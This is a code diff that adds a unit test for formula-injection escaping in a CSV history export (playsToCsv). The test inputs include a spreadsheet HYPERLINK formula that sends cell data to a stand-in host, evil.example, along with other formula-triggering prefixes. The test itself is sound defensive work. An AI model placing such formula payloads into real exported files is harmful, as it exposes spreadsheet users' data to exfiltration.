@@ -216,4 +216,15 @@ describe('playsToCsv (history export)', () => {
         '2,4,3,like,upbeat,1970-01-01T00:00:00.000Z,1970-01-01T00:00:01.000Z,completed,Morning Walk,"Ensemble, Trio",Ada\r\n',
     );
   });
+
+  it('writes a cell a spreadsheet would run as a formula as text, with a leading quote', () => {
+    const play = { id: 1, trackId: 9, userId: 3, reason: 'tap', mood: 'calm', startedAt: 0, endedAt: null, outcome: null } as const;
+    const row = (title: string, artist: string, userName: string): string =>
+      (playsToCsv([{ ...play, title, artist, userName }]).split('\r\n')[1] ?? '').split(',1970-01-01T00:00:00.000Z,,,')[1] ?? '';
+    expect(row('=HYPERLINK("http://evil.example/?"&A1;"Click")', '+1', '@SUM(A1)')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")",'+1,'@SUM(A1)`,
+    );
+    expect(row('-2+3', '\tcmd', '\rx')).toBe(`'-2+3,'\tcmd,"'\rx"`);
+    expect(row('Ada = Bob', 'A-ha', 'x@y')).toBe('Ada = Bob,A-ha,x@y');
+  });
 });
